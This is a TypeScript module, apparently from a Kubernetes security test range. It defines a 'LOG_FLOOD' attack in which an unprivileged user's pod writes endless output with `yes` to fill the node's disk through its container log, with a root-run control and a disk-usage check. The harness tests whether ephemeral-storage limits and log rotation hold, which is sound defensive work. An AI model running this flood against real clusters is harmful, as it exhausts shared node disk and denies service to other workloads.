import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack, Outcome } from '#attack/attack.ts'
import { eventually } from '#attack/box.ts'
import type { Range } from '#attack/range.ts'
import { podAt } from '#attack/state.ts'

/** What a pod's log may take of the node's disk and go on: as much as one container may write at all. */
const BOUND_MB = 1024
const FLOOD_MS = 60_000
const ROOM_MS = 180_000
const LOOK_EVERY_MS = 1000
const POD = 'flood'
/** As fast as it may; one line is what the runtime takes at once. */
const WRITE = `yes "$(head -c 8000 /dev/zero | tr '\\0' x)"`
const BODY = {
  metadata: { name: POD },
  spec: {
    restartPolicy: 'Never',
    // With all that the learner's quota lets one container have.
    containers: [
      {
        name: 'c',
        image: 'busybox',
        command: ['sh', '-c', WRITE],
        resources: { limits: { cpu: '1', memory: '128Mi', 'ephemeral-storage': `${BOUND_MB}Mi` } },
      },
    ],
  },
}

/** The most that a pod's log ever took on the node, in MB, until it was stopped or the time is over. */
async function flooded(range: Range, namespace: string): Promise<Outcome> {
  const [{ admin, learner }, node] = await Promise.all([range.askers(), range.control('node', 'root')])
  const path = `/api/v1/namespaces/${namespace}/pods`
  const made = await learner('POST', path, { body: BODY })
  if (made.status !== 201) throw new Error(`no pod to flood from: ${made.status} ${made.body.slice(0, 200)}`)
  let most = 0
  // Beside other attacks the node may have no room for a while.
  await eventually(async () => {
    const { phase = 'unknown' } = (await podAt(admin, { namespace, pod: POD }))?.status ?? {}
    if (phase === 'Pending' || phase === 'unknown') throw new Error(`the pod to flood from is ${phase}`)
  }, ROOM_MS)
  let ended: string | null = null
  for (const until = Date.now() + FLOOD_MS; Date.now() < until; await sleep(LOOK_EVERY_MS)) {
    // The node's root: that of its first process.
    const { output } = await node.box.run(`du -sm /proc/1/root/var/log/pods/${namespace}_${POD}_* | cut -f 1`)
    most = Math.max(most, Number(output) || 0)
    const pod = await podAt(admin, { namespace, pod: POD })
    if (pod?.status?.phase !== 'Failed') continue
    ended = pod.status.reason ?? 'ended'
    break
  }
  await learner('DELETE', `${path}/${POD}`)
  if (most === 0) throw new Error('nothing was written')
  // How much a fast disk takes between two looks of the kubelet's is no matter, if then it ends.
  return { worked: most > BOUND_MB && ended === null, seen: `${most} MB of log at most, ${ended ?? 'still writing'}` }
}

export const LOG_FLOOD: Attack = {
  name: `fill the node’s disk by a log: more than ${BOUND_MB} MB, and no end within a minute`,
  from: ({ kubernetes }) => kubernetes,
  control: 'the same lines into a file that nobody rotates',
  attempt: async (range, profile) => flooded(range, (await range.subject(profile)).learner),
  proof: async (range) => {
    const { box } = await range.control('node', 'root')
    const file = '/proc/1/root/var/log/attack-flood'
    const { output } = await box.run(
      `(${WRITE}) | head -c ${2 * BOUND_MB}M >${file}; du -m ${file} | cut -f 1; rm ${file}`,
      {
        timeoutMs: FLOOD_MS,
      },
    )
    const megabytes = Number(output)
    return { worked: megabytes > BOUND_MB, seen: `${megabytes} MB in a file` }
  },
}
